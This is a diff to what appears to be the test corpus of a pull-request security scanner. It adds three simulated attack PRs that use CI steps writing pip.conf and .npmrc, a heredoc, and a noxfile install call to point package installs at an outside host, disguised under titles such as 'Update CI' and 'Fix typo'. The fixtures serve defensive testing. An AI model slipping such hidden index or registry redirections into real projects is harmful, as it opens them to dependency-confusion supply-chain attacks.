@@ -2913,6 +2913,112 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
   },
   {
+    id: 'attack-ci-step-writes-index-into-config-file',
+    description:
+      'Dependency confusion written into a config file by a CI step instead of set on a command line: a newcomer\'s "Update CI" PR echoes an extra-index-url into ~/.pip/pip.conf and printf\'s a registry into .npmrc before the installs, so neither the install command nor any file in the repository names the extra host.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 8816,
+        title: 'Update CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/test.yml',
+            base: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pip install -r requirements.txt && npm ci', '      - run: pytest'),
+            head: lines(
+              'name: test',
+              'on: [push, pull_request]',
+              'jobs:',
+              '  test:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - uses: actions/checkout@v4',
+              '      - run: |',
+              '          mkdir -p ~/.pip',
+              '          echo "extra-index-url = https://wheels.tint-cache.dev/simple" >> ~/.pip/pip.conf',
+              "          printf 'registry=https://registry.tint-cache.dev/\\n' > .npmrc",
+              '      - run: pip install -r requirements.txt && npm ci',
+              '      - run: pytest',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index', 'npm-registry-override'] },
+  },
+  {
+    id: 'attack-ci-heredoc-writes-pip-conf',
+    description:
+      'The here-document form of an index written by a CI step: a newcomer\'s "Update CI" PR adds a step that `cat`s a [global] section with an extra-index-url into ~/.config/pip/pip.conf, the key on a line of its own where no command names it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 8818,
+        title: 'Update CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/test.yml',
+            base: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pip install -r requirements.txt', '      - run: pytest'),
+            head: lines(
+              'name: test',
+              'on: [push, pull_request]',
+              'jobs:',
+              '  test:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - uses: actions/checkout@v4',
+              '      - name: Configure pip',
+              '        run: |',
+              '          mkdir -p ~/.config/pip',
+              '          cat > ~/.config/pip/pip.conf <<EOF',
+              '          [global]',
+              '          timeout = 60',
+              '          extra-index-url = https://wheels.tint-cache.dev/simple',
+              '          EOF',
+              '      - run: pip install -r requirements.txt',
+              '      - run: pytest',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-noxfile-session-install-extra-index',
+    description:
+      'Dependency confusion through the task runner instead of the requirements file: a newcomer\'s "Fix typo" PR makes noxfile.py\'s test session call `session.install("--extra-index-url", …)`, so every `nox` run on a developer machine or in CI takes each package from whichever of PyPI and that host offers the higher version.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 8817,
+        title: 'Fix typo',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'noxfile.py',
+            base: lines('import nox', '', '', '@nox.session(python=["3.11", "3.12"])', 'def tests(session):', '    """Run the tets."""', '    session.install("-r", "requirements-dev.txt")', '    session.run("pytest")'),
+            head: lines(
+              'import nox',
+              '',
+              '',
+              '@nox.session(python=["3.11", "3.12"])',
+              'def tests(session):',
+              '    """Run the tests."""',
+              '    session.install(',
+              '        "--extra-index-url",',
+              '        "https://wheels.tint-cache.dev/simple",',
+              '        "-r",',
+              '        "requirements-dev.txt",',
+              '    )',
+              '    session.run("pytest")',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
     id: 'attack-ci-npm-registry-on-command-line',
     description:
       "The npm twin of a registry override, kept out of .npmrc where reviewers look: a newcomer's \"speed up CI\" PR runs `npm ci --registry` against a host spelled like the public registry, and a Dockerfile sets NPM_CONFIG_REGISTRY to it: every package then comes from whoever holds that host.",
